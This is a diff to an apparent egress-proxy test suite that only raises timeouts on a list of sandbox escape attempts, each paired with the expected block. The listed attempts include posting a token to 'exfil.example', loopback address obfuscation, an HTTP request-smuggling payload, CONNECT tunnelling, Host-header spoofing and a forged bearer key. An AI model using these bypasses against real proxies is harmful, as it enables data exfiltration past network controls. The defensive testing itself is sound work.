@@ -15,14 +15,14 @@ interface Way {
   readonly says: RegExp;
 }
 
-const curl = 'curl -sS -m 5';
+const curl = 'curl -sS -m 60';
 const ways: readonly Way[] = [
   { title: 'by the address itself', attempt: `${curl} -d $T http://127.0.0.1:$PORT/`, plain: true, says: /Failed to connect/ },
   { title: 'by the address as one number', attempt: `${curl} -d $T http://2130706433:$PORT/`, plain: true, says: /Failed to connect/ },
   { title: 'by the address in hex', attempt: `${curl} -d $T http://0x7f000001:$PORT/`, plain: true, says: /Failed to connect/ },
   { title: 'by the name localhost', attempt: `${curl} -d $T http://localhost:$PORT/`, plain: true, says: /Failed to connect/ },
-  { title: 'by the address mapped into IPv6', attempt: `python3 -c "import socket; s=socket.create_connection(('::ffff:127.0.0.1',$PORT),3); s.sendall(b'POST /$T HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 0\\r\\n\\r\\n'); print(s.recv(99))"`, plain: true, says: /ConnectionRefused/ },
-  { title: 'by a raw socket and no proxy variables', attempt: `env -i /usr/bin/python3 -c "import socket; s=socket.create_connection(('127.0.0.1',$PORT),3); s.sendall(b'GET /$T HTTP/1.1\\r\\nHost: office.example\\r\\n\\r\\n'); print(s.recv(99))"`, plain: true, says: /ConnectionRefused/ },
+  { title: 'by the address mapped into IPv6', attempt: `python3 -c "import socket; s=socket.create_connection(('::ffff:127.0.0.1',$PORT),30); s.sendall(b'POST /$T HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 0\\r\\n\\r\\n'); print(s.recv(99))"`, plain: true, says: /ConnectionRefused/ },
+  { title: 'by a raw socket and no proxy variables', attempt: `env -i /usr/bin/python3 -c "import socket; s=socket.create_connection(('127.0.0.1',$PORT),30); s.sendall(b'GET /$T HTTP/1.1\\r\\nHost: office.example\\r\\n\\r\\n'); print(s.recv(99))"`, plain: true, says: /ConnectionRefused/ },
   { title: 'by another address that the proxy captures', attempt: `${curl} -d $T --connect-to ::198.51.100.7:$PORT http://office.example:$PORT/`, plain: false, says: /misdirected/ },
   { title: 'by a name that no rule allows', attempt: `${curl} -d $T http://exfil.example:$PORT/`, plain: false, says: /Could not resolve/ },
   { title: 'a denied host in the Host header', attempt: `${curl} -H 'Host: exfil.example' http://office.example:$PORT/$T`, plain: false, says: /misdirected/ },
@@ -30,10 +30,10 @@ const ways: readonly Way[] = [
   { title: 'a method that no rule could name', attempt: `${curl} -X get http://office.example:$PORT/$T`, plain: false, says: /Empty reply/ },
   { title: 'an allowed method that says it is another', attempt: `${curl} -H 'X-HTTP-Method-Override: DELETE' http://office.example:$PORT/$T`, plain: false, says: /method-override/ },
   { title: 'an allowed method with a body', attempt: `${curl} -X GET -d $T http://office.example:$PORT/`, plain: false, says: /body-not-expected/ },
-  { title: 'a second request behind the first (smuggled)', attempt: `python3 -c "import socket; s=socket.create_connection(('office.example',$PORT),3); s.sendall(b'GET /ok HTTP/1.1\\r\\nHost: office.example\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nPOST /$T HTTP/1.1\\r\\nHost: office.example\\r\\n\\r\\n'); print(s.recv(999))"`, plain: false, says: /400 Bad Request.*malformed/ },
+  { title: 'a second request behind the first (smuggled)', attempt: `python3 -c "import socket; s=socket.create_connection(('office.example',$PORT),30); s.sendall(b'GET /ok HTTP/1.1\\r\\nHost: office.example\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nPOST /$T HTTP/1.1\\r\\nHost: office.example\\r\\n\\r\\n'); print(s.recv(999))"`, plain: false, says: /400 Bad Request.*malformed/ },
   { title: 'an upgrade to a tunnel', attempt: `${curl} -H 'Connection: Upgrade' -H 'Upgrade: websocket' http://office.example:$PORT/$T`, plain: false, says: /proxy\.upgrade/ },
-  { title: 'CONNECT to the address', attempt: `python3 -c "import socket; s=socket.create_connection(('office.example',$PORT),3); s.sendall(b'CONNECT 127.0.0.1:$PORT HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n'); s.recv(999); s.sendall(b'POST /$T HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); print(s.recv(999))"`, plain: false, says: /^b''/ },
-  { title: 'an absolute address of another host', attempt: `python3 -c "import socket; s=socket.create_connection(('office.example',$PORT),3); s.sendall(b'GET http://127.0.0.1:$PORT/$T HTTP/1.1\\r\\nHost: office.example\\r\\n\\r\\n'); print(s.recv(999))"`, plain: false, says: /421 Misdirected/ },
+  { title: 'CONNECT to the address', attempt: `python3 -c "import socket; s=socket.create_connection(('office.example',$PORT),30); s.sendall(b'CONNECT 127.0.0.1:$PORT HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n'); s.recv(999); s.sendall(b'POST /$T HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); print(s.recv(999))"`, plain: false, says: /^b''/ },
+  { title: 'an absolute address of another host', attempt: `python3 -c "import socket; s=socket.create_connection(('office.example',$PORT),30); s.sendall(b'GET http://127.0.0.1:$PORT/$T HTTP/1.1\\r\\nHost: office.example\\r\\n\\r\\n'); print(s.recv(999))"`, plain: false, says: /421 Misdirected/ },
   { title: 'to the model with a forged key', attempt: `${curl} -H 'Authorization: Bearer forged' -H 'Content-Type: application/json' -d '{"model":"willing","messages":[{"role":"user","content":"'$T'"}]}' http://inference.local/v1/chat/completions`, plain: false, says: /router\.key/ },
 ];
 
@@ -45,7 +45,7 @@ export async function pastTheProxy(check: Checks, port: number, got: () => strin
     const free = randomBytes(8).toString('hex');
     let real = true;
     if (plain) {
-      await run('/usr/bin/setpriv', ['--reuid', '65533', '--regid', '65533', '--clear-groups', '/bin/sh', '-c', script(free)], { env: { PATH: '/usr/bin:/bin' }, timeoutMs: 10_000 });
+      await run('/usr/bin/setpriv', ['--reuid', '65533', '--regid', '65533', '--clear-groups', '/bin/sh', '-c', script(free)], { env: { PATH: '/usr/bin:/bin' }, timeoutMs: 60_000 });
       real = got().includes(free);
     }
     const token = randomBytes(8).toString('hex');
